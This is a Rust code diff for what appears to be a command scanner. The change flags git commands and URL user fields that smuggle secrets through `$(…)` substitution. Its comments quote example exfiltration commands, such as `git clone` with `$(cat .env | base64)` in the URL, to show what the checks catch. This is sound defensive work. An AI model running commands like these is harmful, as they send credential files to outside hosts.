@@ -210,6 +210,10 @@ pub(super) fn judge(cmd: &Command, scan: &mut Scan<'_>) {
     if client {
         carried(cmd, program, scan);
         stdin_secrets(cmd, scan);
+    } else if program == "git" && cmd.args().iter().any(|a| a.contains("://")) {
+        // `git clone "https://host/$(cat .env | base64)"`, `git ls-remote URL?d=$(…)`: git
+        // asks the host for what the address names, as curl does.
+        carried(cmd, program, scan);
     }
 }
 
@@ -605,7 +609,7 @@ fn carried(cmd: &Command, program: &str, scan: &mut Scan<'_>) {
     let args = cmd.args();
     // A downloader's operands may be files (`-o out-$(date +%s).tar.gz`): only its addresses
     // are names; another client's operands are hosts.
-    let urls_only = catalogue::is(program, Class::Downloader);
+    let urls_only = catalogue::is(program, Class::Downloader) || program == "git";
     for word in args {
         if let Some(domain) = name_carries(word, urls_only) {
             send_to(
@@ -701,7 +705,11 @@ fn name_carries(word: &str, urls_only: bool) -> Option<String> {
 /// `$(…)` in an address's path or query (after `scheme://`): what it prints is sent.
 fn substitutes_after_host(rest: &str) -> bool {
     let end = authority_end(rest);
-    substitutions(rest).iter().any(|(start, _)| *start >= end)
+    // The user and password before `@` are sent too (`https://$(cat .env)@host/`).
+    let user_end = rest.get(..end).and_then(|authority| authority.rfind('@'));
+    substitutions(rest)
+        .iter()
+        .any(|(start, _)| *start >= end || user_end.is_some_and(|at| *start < at))
 }
 
 /// A variable in an address's path or query whose name says it holds a secret
